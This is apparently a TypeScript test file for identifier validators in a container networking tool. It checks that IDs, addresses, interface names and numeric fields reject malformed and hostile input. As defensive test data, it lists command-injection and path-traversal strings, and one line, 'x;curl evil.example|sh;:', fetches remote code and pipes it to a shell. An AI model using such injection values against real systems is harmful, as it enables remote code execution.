import { expect } from 'chai'
import * as identifiers from './identifier.ts'
import { SwarmproofError } from './error.ts'

const { cidrBlock, containerId, interfaceName, ipAddress, ipv4Address, macAddress, macAddressOrNone } =
  identifiers
const { mtu, networkId, objectName, packetMark, prefixLength, processId, routeDestination, swarmId, vni } =
  identifiers

type Checker = (value: unknown, host?: string) => string | number

/** What nobody may say in place of any identifier. */
const hostile = [
  undefined,
  null,
  {},
  [],
  '',
  ' ',
  '\n',
  '$(id)',
  '`id`',
  'x;id',
  'a b',
  "a'b",
  '10.0.0.1\ntcp 1 0 10.0.0.2 22',
  '-x',
  '../..',
  'a\0b',
  'x'.repeat(300),
  '\u001b[2J',
]

const checkers: Readonly<Record<string, readonly [Checker, readonly unknown[]]>> = {
  swarmId: [swarmId, ['q1n2v0h8y5l3k9m7x4c6b1z2a']],
  containerId: [containerId, ['0123456789ab', 'f'.repeat(64)]],
  networkId: [networkId, ['q1n2v0h8y5l3k9m7x4c6b1z2a', 'f'.repeat(64), 'q1n2v0h8y5l3']],
  ipv4Address: [ipv4Address, ['10.0.0.1', '0.0.0.0']],
  ipAddress: [ipAddress, ['10.0.0.1', 'fe80::1', '::']],
  cidrBlock: [cidrBlock, ['10.0.0.0/8', '0.0.0.0/0', 'fd00::/64']],
  macAddress: [macAddress, ['02:42:0a:5b:01:06']],
  objectName: [objectName, ['swp-web', 'swp_x.1', 'docker_gwbridge']],
  processId: [processId, [1, '4242', 4_194_304]],
  mtu: [mtu, [1500, 65_536]],
  vni: [vni, ['4097', 16_777_215]],
  packetMark: [packetMark, [256, 0xd0c4e3]],
  prefixLength: [prefixLength, [0, '24', 128]],
  routeDestination: [routeDestination, ['default', '10.0.0.0/8']],
}

describe('identifiers', () => {
  for (const [name, [check, sound]] of Object.entries(checkers)) {
    it(`${name} takes what engines and kernels say, and nothing else`, () => {
      for (const value of sound)
        expect(String(check(value, 'web1'))).to.equal(typeof value === 'number' ? String(value) : value)
      for (const value of hostile) {
        expect(() => check(value, 'web1'), JSON.stringify(value))
          .to.throw(SwarmproofError)
          .that.includes({ code: 'NOT_AN_IDENTIFIER', host: 'web1' })
      }
    })
  }

  it('of interfaces are whatever a kernel takes, but for options and what nobody can print', () => {
    for (const name of ['lo', 'eth0.100', 'br-0123456789ab', 'wg_0', 'a;b', 'vethab12cd3@if7'.slice(0, 15)])
      expect(interfaceName(name)).to.equal(name)
    for (const name of ['', '-x', '.', '..', 'a b', 'a\tb', 'a/b', 'a:b', 'a\nb', 'x'.repeat(16)])
      expect(() => interfaceName(name), name).to.throw(SwarmproofError)
  })

  it('of numbers keep their bounds', () => {
    for (const pid of [0, -1, 1.5, 4_194_305, '1e3', '0x10', Number.NaN])
      expect(() => processId(pid), String(pid)).to.throw(SwarmproofError)
    expect(() => vni(2 ** 24)).to.throw(SwarmproofError)
    expect(() => cidrBlock('10.0.0.0/33')).to.throw(SwarmproofError)
    expect(() => ipAddress('fe80::1%eth0')).to.throw(SwarmproofError)
  })

  it('say what was said instead, cut short', () => {
    expect(() => swarmId('x;curl evil.example|sh;:', 'worker1')).to.throw(
      'received something that is not a swarm id (on worker1)\n  expected: a swarm id\n  observed: "x;curl evil.example|sh;:"',
    )
  })

  it('of MAC addresses are empty for interfaces of other kinds', () => {
    expect([macAddressOrNone('0.0.0.0'), macAddressOrNone('02:42:0a:5b:01:06')]).to.deep.equal([
      '',
      '02:42:0a:5b:01:06',
    ])
  })
})
